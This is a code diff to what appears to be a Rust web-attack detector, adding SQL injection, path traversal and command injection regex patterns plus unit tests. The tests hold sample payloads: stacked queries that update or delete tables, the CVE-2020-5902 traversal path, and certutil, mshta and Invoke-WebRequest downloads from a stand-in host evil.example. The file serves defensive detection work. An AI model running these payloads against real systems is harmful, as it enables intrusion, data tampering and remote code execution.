@@ -89,7 +89,7 @@ impl Class {
 const SCREEN: &[&str] = &[
     "select",
     "union",
-    "sleep(",
+    "sleep",
     "benchmark(",
     "waitfor",
     "'",
@@ -159,6 +159,10 @@ const SCREEN: &[&str] = &[
     "ognl",
     "xwork",
     "classloader",
+    "certutil",
+    "mshta",
+    "invoke-",
+    "&&",
 ];
 
 /// Attack patterns per class, applied to the decoded target.
@@ -177,9 +181,12 @@ const PATTERNS: &[(Class, &str)] = &[
     ),
     (Class::Sqli, r#"["')]\s*(or|and)\s+\d+\s*[=<>]\s*\d+"#),
     (Class::Sqli, r"\b(or|and)\s+\d+\s*=\s*\d+\s*(--|#|/\*)"),
+    // Time-based blind: `sleep(5)`, `sleep('10')`, `sleep ("10")`, `sleep (mod(10,5))`,
+    // `sleep(-3*-2)`, and `pg_sleep` whatever follows it; not a product search such as
+    // `sleep (8 hours)`.
     (
         Class::Sqli,
-        r"\b(sleep|pg_sleep)\s*\(\s*\d+|benchmark\s*\(\s*\d+|waitfor\s+delay\s+'",
+        r#"\b(pg_)?sleep\s*\(\s*(-?\s*\d+(\.\d+)?\s*([)*+/%^-]|(div|mod|xor)\b)|['"]\s*-?\s*\d|[a-z_]+\s*\()|\bselect\s+sleep\s*\(|\bpg_sleep\b|benchmark\s*\(\s*\d+|waitfor\s+delay\s+'"#,
     ),
     (
         Class::Sqli,
@@ -188,6 +195,13 @@ const PATTERNS: &[(Class, &str)] = &[
     (
         Class::Sqli,
         r"concat(_ws)?\s*\(.{0,40}0x[0-9a-f]+|char\s*\(\s*\d+\s*(,\s*\d+\s*){2,}\)|'\s*;\s*(drop|insert|update|delete|shutdown)\b|'\s*(--|#)",
+    ),
+    // Stacked queries without a quote (`1;INSERT /*x*/INTO t(id) VALUES (3)`): a statement
+    // keyword after `;` only with its own grammar (`insert … into`, `update … set`, `delete
+    // from`), so `;` in ordinary query strings (`a=1;b=2`, `;update`) stays clean.
+    (
+        Class::Sqli,
+        r#";\s*(/\*[^*]*\*/\s*)*(insert(\s|/\*[^*]*\*/)+into\b|update\s+[\w.`"\[\]]+\s+set\b|delete\s+from\b|drop\s+(table|database|schema)\b|truncate\s+table\b|declare\s+@|exec(ute)?\s+(xp_|sp_|master\.))"#,
     ),
     (
         Class::Xss,
@@ -201,13 +215,29 @@ const PATTERNS: &[(Class, &str)] = &[
         Class::Xss,
         r"javascript\s*:|vbscript\s*:|document\.(cookie|domain|location)|string\.fromcharcode|\balert\s*\(|\bprompt\s*\(|\bconfirm\s*\(|data:text/html",
     ),
+    // `..;/` is a traversal too: Tomcat drops the `;` path parameter after normalising, so
+    // F5 BIG-IP's `/tmui/login.jsp/..;/tmui/…` (CVE-2020-5902) escapes the login check.
     (
         Class::Traversal,
-        r"(\.\./|\.\.\\){1,}|/etc/(passwd|shadow|hosts|group)|/proc/self/(environ|cmdline|fd)|win\.ini|boot\.ini|\x00|php://filter|file:///",
+        r"(\.\./|\.\.\\|\.\.;/){1,}|/etc/(passwd|shadow|hosts|group)|/proc/self/(environ|cmdline|fd)|win\.ini|boot\.ini|\x00|php://filter|file:///",
     ),
+    // A command after a shell separator. Not followed by `=`: `&id=3` and `;id=3` (matrix
+    // parameters) are query parameters, not commands.
     (
         Class::Cmdi,
-        r"[;|`&]\s*(id|uname|whoami|cat|ls|wget|curl|bash|sh|nc|ncat|netcat|python[0-9.]*|perl|php|chmod|rm|echo|busybox|ping|nslookup|sleep)\b",
+        r"[;|`&]\s*(id|uname|whoami|cat|ls|wget|curl|bash|sh|nc|ncat|netcat|python[0-9.]*|perl|php|chmod|rm|echo|busybox|ping|nslookup|sleep)([^a-z0-9_=]|$)",
+    ),
+    // `ps` and `who` are ordinary words: only right after a separator (`;`, `|`, `&&`, a
+    // backtick, `$(`, a newline) and before the end, a space or another separator.
+    (
+        Class::Cmdi,
+        r"([;|`\n]|&&|\$\()\s*(ps|who|id)(\s|[;|&`)]|$)",
+    ),
+    // Windows download-and-run (`certutil -urlcache`, `mshta http…`, PowerShell's
+    // `Invoke-WebRequest` and its aliases after a separator), and `$(…)` around any command.
+    (
+        Class::Cmdi,
+        r"\bcertutil(\.exe)?\b.{0,40}[-/](urlcache|decode|verifyctl)\b|\bmshta(\.exe)?\s+(https?:|vbscript:|javascript:)|\binvoke-(webrequest|expression|restmethod)\b|([;|`\n]|&&|\$\()\s*(iwr|iex|irm)(\s|\(|$)|\$\(\s*[a-z_./]",
     ),
     (
         Class::Cmdi,
@@ -1126,6 +1156,50 @@ mod tests {
             classes("/%252e%252e/%252e%252e/etc/passwd"),
             vec!["web.traversal"]
         );
+        // Tomcat's `..;/` (F5 BIG-IP CVE-2020-5902), plain and percent-encoded.
+        for t in [
+            "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/f5-release",
+            "/tmui/login.jsp/%2e%2e;/tmui/locallb/workspace/directoryList.jsp?directoryPath=/usr/local/www/",
+            "/tmui/login.jsp/%2E%2E%3B/tmui/system/user/authproperties.jsp",
+        ] {
+            assert!(classes(t).contains(&"web.traversal"), "{t}");
+        }
+    }
+
+    /// Plain payloads the CRS regression tests send (our own values), answered 200 in the
+    /// review's corpus check and missed before: time-based SQLi with a quoted or computed
+    /// argument, stacked queries without a quote, and commands the lists lacked.
+    #[test]
+    fn classifies_plain_sqli_and_command_payloads() {
+        for t in [
+            "/products/list?name=x%27%20AND%20sleep(%2710%27)%20--%20",
+            "/get?t=SeLeCT%20sLeEp%20%28%2210%22%29",
+            "/get?t=select%20sleep%20(mod(10,5))",
+            "/get?t=select%20sleep%20(-3%20*%20-2)",
+            "/get?v=select%20pg_sleep",
+            "/products/detail?id=1;INSERT%20INTO%20dtb_member(id)%20VALUES%20(3)--%20-",
+            "/get?t=1%3BINSERT%20%2F%2Ax%2A%2FINTO%20t%28id%29%20VALUES%20%283%29",
+            "/get?t=1;%20update%20dtb_member%20set%20password=1",
+            "/get?t=1;delete%20from%20dtb_order",
+        ] {
+            assert_eq!(classes(t), vec!["web.sqli"], "{t}");
+        }
+        for t in [
+            "/search?q=1;ps",
+            "/get?arg=%3Bps",
+            "/get?x=;who",
+            "/get?x=a|who&y=1",
+            "/get?x=1%26%26id",
+            "/get?x=1;%20ps%20aux",
+            "/get?cmd=;%20mshta%20http://evil.example",
+            "/search?q=;certutil%20-urlcache%20-f%20http://evil.example/p.exe",
+            "/get?cmd=%3Biwr%20http://evil.example/f.ps1",
+            "/get?c=Invoke-WebRequest%20http://evil.example/f.ps1",
+            "/get?c=$(cmd)",
+            "/get?c=x$(touch%20/tmp/p)",
+        ] {
+            assert_eq!(classes(t), vec!["web.cmdi"], "{t}");
+        }
     }
 
     #[test]
@@ -1146,6 +1220,19 @@ mod tests {
             "/installation-guide",
             "/envelope-set",
             "/gitlab",
+            // Search words and `;` in ordinary query strings.
+            "/products/list?name=%E7%9D%A1%E7%9C%A0+sleep+mask",
+            "/search?q=sleep+(8+hours)",
+            "/search?q=doctor+who",
+            "/blog?title=who+we+are;part=2",
+            "/search?q=ps4;ps5",
+            "/products/list?category_id=3;orderby=2&id=5",
+            "/products/detail/7;id=3",
+            "/search?q=o%27reilly&id=3&ls=1",
+            "/p?a=1;b=2;c=3;update=1",
+            "/search?q=IEX+stock+report",
+            "/search?q=price+$(10)",
+            "/search?q=pg_sleep_mask",
         ] {
             assert!(classes(t).is_empty(), "{t} => {:?}", classes(t));
         }
